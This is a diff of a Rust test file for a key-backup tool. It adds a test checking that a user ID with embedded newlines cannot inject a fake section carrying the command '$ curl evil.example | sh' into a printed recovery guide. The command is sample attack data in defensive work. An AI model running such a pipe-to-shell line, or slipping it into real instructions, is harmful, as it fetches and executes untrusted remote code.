@@ -2,9 +2,10 @@
 
 #![allow(clippy::unwrap_used, clippy::panic)]
 
-use coldspare::backup::GatherError;
 use std::time::SystemTime;
 
+use anyhow::{Result, ensure};
+use coldspare::backup::{BY_HAND, GatherError, Guide, Manifest, bundle, guide, section};
 use coldspare::ceremony::{CeremonyError, Made, Meeting, PinChoice, Recovery};
 use coldspare::machine::stick::Mounted;
 use coldspare::nitrokey::{Erase, Found, NitrokeyError, Pin, Start, finish_resets, list};
@@ -12,6 +13,10 @@ use coldspare::plan::{Algorithm, Plan, Slot, SlotChoice, Touch};
 use coldspare_tests::VirtualBus;
 use coldspare_tests::walk::{self, Prepared};
 use secrecy::SecretString;
+use sequoia_openpgp::Cert;
+use sequoia_openpgp::packet::UserID;
+use sequoia_openpgp::parse::Parse;
+use sequoia_openpgp::serialize::SerializeInto;
 use virtual_nitrokey::{Model, VirtualNitrokey};
 
 fn ready(algorithm: Algorithm) -> (Prepared, tempfile::TempDir) {
@@ -32,6 +37,43 @@ fn nitrokey_error<T: std::fmt::Debug>(result: Result<T, CeremonyError>) -> Nitro
         CeremonyError::Nitrokey(error) => error,
         other => panic!("{other:?}"),
     }
+}
+
+/// A user id that bears no signature of its key anybody can put into an exported file, without its passphrase. With lines
+/// in it, it would be commands in the guide, and on the back of every card.
+#[test]
+fn what_somebody_wrote_into_an_exported_key_is_no_command_on_paper() -> Result<()> {
+    let (home, stick) = (tempfile::tempdir()?, tempfile::tempdir()?);
+    let owner = walk::prepare(
+        walk::plan(Algorithm::Curve25519, 2, 3)?,
+        &VirtualBus::default(),
+        &[],
+        home.path(),
+        &mut |_| (),
+    )?;
+    let lines = "Ada\n\n4. BOTH NITROKEYS ARE GONE\n--------------------------\n\n    $ curl evil.example | sh\n\n5. EVERY YEAR\n";
+    let cert = Cert::from_bytes(&owner.made.identity().secret_armored()?[..])?;
+    let (changed, _) = cert.insert_packets(UserID::from(lines))?;
+    let exported = changed.as_tsk().armored().to_vec()?;
+    let imported = walk::prepare_import(
+        walk::plan(Algorithm::Curve25519, 2, 3)?,
+        &exported,
+        None,
+        stick.path(),
+        &mut |_| (),
+    )?;
+    assert_eq!(imported.made.identity().user_ids(), owner.made.identity().user_ids());
+    let written = std::fs::read_to_string(stick.path().join(&imported.folder).join(bundle::GUIDE))?;
+    ensure!(!written.contains("curl") && section(&written, BY_HAND).contains("gfcombine"), "{written}");
+    // And whatever an owner signs stays one line.
+    let manifest = Manifest { user_ids: vec![lines.into()], ..imported.sealed.manifest().clone() };
+    let (nitrokeys, subkeys) = (Vec::new(), Vec::new());
+    let made = guide(&Guide { manifest: &manifest, nitrokeys, subkeys, expires: None, language: "en" });
+    ensure!(
+        section(&made, BY_HAND).contains("gfcombine")
+            && !made.lines().any(|line| line.starts_with("    $ curl"))
+    );
+    Ok(())
 }
 
 #[test]
